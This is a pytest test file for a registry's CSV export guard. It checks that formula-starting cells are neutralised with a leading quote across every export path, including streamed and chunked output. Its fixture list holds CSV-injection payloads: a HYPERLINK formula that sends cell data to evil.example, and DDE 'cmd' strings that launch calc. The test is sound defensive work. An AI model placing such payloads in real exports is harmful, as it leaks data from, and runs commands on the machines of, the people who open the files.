"""Issue 9, item 10: no CSV the instance serves carries a live formula.

Owner names and report text beginning ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return are planted in a copy of the registry; every kind of CSV
(table, table streamed, canned query, arbitrary SQL, with and without
``_dl``) must give them a leading ``'``, and the JSON must give them back
exactly as stored."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from security.server_support import copy_registry, start, stop
from sqlite_utils import Database

from registry.derive.summaries import derive_summaries

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
OWNERS = {f"evil-{n}": formula for n, formula in enumerate(FORMULAS)}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def csv_server(security_registry, tmp_path_factory):
    path = copy_registry(security_registry, tmp_path_factory.mktemp("csv"))
    conn = sqlite3.connect(path)
    conn.executemany(
        "insert into owners (id, name) values (?, ?)", list(OWNERS.items())
    )
    # Each planted owner runs a home in the latest list, so the canned query
    # `owners` lists them: copies of SC100001's rows with another URN and owner.
    conn.row_factory = sqlite3.Row
    home = dict(conn.execute("select * from homes where urn = 'SC100001'").fetchone())
    snapshot = dict(
        conn.execute(
            "select * from home_snapshots where urn = 'SC100001'"
            " order by as_at desc limit 1"
        ).fetchone()
    )
    for n, owner in enumerate(OWNERS):
        for table, row in (("homes", home), ("home_snapshots", snapshot)):
            row = {**row, "urn": f"SC9000{n:02d}", "owner": owner}
            names = ", ".join(row)
            marks = ", ".join("?" for _ in row)
            conn.execute(
                f"insert into {table} ({names}) values ({marks})", list(row.values())
            )
    conn.commit()
    conn.close()
    # what a load derives from the rows planted above (the owners story reads it)
    db = Database(path)
    with db.conn:
        derive_summaries(db)
    db.execute("PRAGMA journal_mode = DELETE")
    db.close()
    server = start(path)
    yield server
    stop(server)


def cells(reply) -> list[str]:
    assert reply.status == 200, reply.text[:300]
    rows = list(csv.reader(io.StringIO(reply.text, newline="")))
    return [cell for row in rows for cell in row]


NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def assert_neutralised(found: list[str], expected: int):
    # A cell that is only a number (-5) is a number to a spreadsheet.
    live = [c for c in found if c.startswith(DANGEROUS) and not NUMBER.fullmatch(c)]
    assert live == []
    quoted = [c for c in found if c[:1] == "'" and c[1:] in FORMULAS]
    assert len(quoted) >= expected, found


@pytest.mark.parametrize(
    "path",
    [
        "/registry/owners.csv",
        "/registry/owners.csv?_dl=1&min_homes=1",
        "/registry/owners.csv?_stream=on&min_homes=1",
    ],
)
def test_canned_query_csv_is_neutralised(csv_server, path):
    assert_neutralised(cells(csv_server.get(path)), len(FORMULAS))
    assert csv_server.unchanged()


@pytest.mark.parametrize(
    "query",
    ["", "?_dl=1", "?_stream=on", "?_stream=on&_dl=1", "?_size=1&_stream=on"],
)
def test_table_csv_is_neutralised(csv_server, query):
    """The owners table is shadowed by the canned query of the same name:
    its rows reach CSV through homes' owner labels and through SQL."""
    separator = "&" if query else "?"
    reply = csv_server.get(f"/registry/homes.csv{query}{separator}_labels=on")
    # owner_label: the owner's name, expanded from the foreign key
    assert_neutralised(cells(reply), 1 if "_size=1" in query else len(FORMULAS))
    assert csv_server.unchanged()


@pytest.mark.parametrize("fmt_params", [{}, {"_dl": "1"}])
def test_arbitrary_sql_csv_is_neutralised(csv_server, fmt_params):
    reply = csv_server.sql(
        'select id, name, name as "=HEADER()", -5 as negative from owners'
        " where id like 'evil-%'",
        fmt=".csv",
        **fmt_params,
    )
    rows = list(csv.reader(io.StringIO(reply.text, newline="")))
    assert rows[0] == ["id", "name", "'=HEADER()", "negative"]
    assert_neutralised([c for row in rows for c in row], len(FORMULAS))
    # A negative number is a number, not a formula.
    assert {row[3] for row in rows[1:]} == {"-5"}
    assert csv_server.unchanged()


def test_json_is_unchanged(csv_server):
    reply = csv_server.sql(
        "select id, name from owners where id like 'evil-%' order by id",
        _shape="array",
    )
    assert [r["name"] for r in json.loads(reply.body)] == FORMULAS
    canned = csv_server.get("/registry/owners.json?_shape=array&min_homes=1")
    names = {r.get("owner") or r.get("name") for r in json.loads(canned.body)}
    assert set(FORMULAS) <= names
    assert csv_server.unchanged()


def load_guard():
    path = Path(__file__).resolve().parents[2] / "datasette/plugins/ofsted_guard.py"
    spec = importlib.util.spec_from_file_location("guard_under_test", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_rewriter_handles_records_split_anywhere():
    """Datasette streams a CSV row by row; a proxy or another writer may cut
    it anywhere, even inside a quoted cell or a UTF-8 character."""
    guard = load_guard()
    rows = [
        ["id", "name", "note"],
        ["1", "=1+1", 'say "hi",\r\n=2+2 on a new line'],
        ["2", "-5", "ünïcödé, -x"],
        ["3", "@SUM(A1)", ""],
        ["4", "+44 20 7946 0000", "\tindent"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    data = buffer.getvalue().encode()
    expected = [[guard.neutralise(c) for c in row] for row in rows]
    assert expected[1][1] == "'=1+1" and expected[2][1] == "-5"
    for size in (1, 2, 3, 7, 64, len(data)):
        rewriter = guard.CsvNeutraliser()
        out = b""
        chunks = [data[i : i + size] for i in range(0, len(data), size)]
        for n, chunk in enumerate(chunks):
            out += rewriter.feed(chunk, final=n == len(chunks) - 1)
        got = list(csv.reader(io.StringIO(out.decode(), newline="")))
        assert got == expected, size


def test_a_bare_carriage_return_cannot_start_a_row():
    """csv.writer(lineterminator="\\n") leaves a cell holding a carriage
    return unquoted; a spreadsheet starts a new row at it."""
    guard = load_guard()
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(
        [["id", "name"], ["1", "\r=1+1"], ["2", "ok\r=2+2"]]
    )
    data = buffer.getvalue()
    assert "\r=1+1" in data and '"' not in data  # unquoted: the danger
    out = guard.CsvNeutraliser().feed(data.encode(), final=True).decode()
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows == [["id", "name"], ["1", "'\r=1+1"], ["2", "ok\r=2+2"]]
    # Read as a spreadsheet would (any CR or LF outside quotes ends a row),
    # no line starts with a formula.
    outside = re.sub(r'"[^"]*"', '""', out)
    assert not any(
        line.startswith(("=", "+", "@")) for line in re.split(r"[\r\n]", outside)
    )


def _slow_cells(guard, text: str) -> list[list[str]]:
    lines = [line + "\n" for line in text.split("\n")]
    lines[-1] = lines[-1][:-1]
    return guard.read_records([line for line in lines if line])


CSV_TEXT = st.text(alphabet=',"\r\n=+-@\ta1 é', max_size=40)


@settings(max_examples=400, deadline=None)
@given(text=CSV_TEXT)
@example(text='"\r\nab",1\r\n')  # a quoted cell that starts with a line end
@example(text='a,"=1"\r\n')
def test_a_body_passed_as_it_is_has_no_cell_the_rewriter_would_change(text):
    """The whole-body shortcut (an export arrives in one piece): whatever it
    lets through unchanged is a body in which no cell starts with a formula
    character, read as the rewriter reads it, and every line ends CRLF."""
    guard = load_guard()
    out = guard.CsvNeutraliser().feed(text.encode(), final=True).decode()
    if out != text:
        return  # rewritten: the full rewriting's own tests cover it
    assert guard.is_safe_csv(text) or not text.strip(",")
    for row in _slow_cells(guard, text):
        assert [guard.neutralise(c) for c in row] == row, (text, row)
    assert not re.search(r"\r(?!\n)|(?<!\r)\n", text)


@example(rows=[["\r\nab", "1"]])
@settings(max_examples=200, deadline=None)
@given(
    rows=st.lists(
        st.lists(
            st.text(alphabet='ab,"\r\n=+-@\t1 ', max_size=6), min_size=1, max_size=4
        ),
        min_size=1,
        max_size=5,
    )
)
def test_a_whole_body_gives_the_cells_the_rewriter_gives(rows):
    """Written by a CSV writer and sent in one piece, any body comes out with
    the same cells as the full rewriting gives chunk by chunk."""
    guard = load_guard()
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    data = buffer.getvalue().encode()
    whole = guard.CsvNeutraliser().feed(data, final=True)
    rewriter = guard.CsvNeutraliser()
    chunked = rewriter.feed(data[:1]) + rewriter.feed(data[1:], final=True)
    read = lambda body: list(csv.reader(io.StringIO(body.decode(), newline="")))  # noqa: E731
    assert read(whole) == read(chunked)
    expected = [[guard.neutralise(c) for c in row] for row in rows]
    assert read(whole) == expected
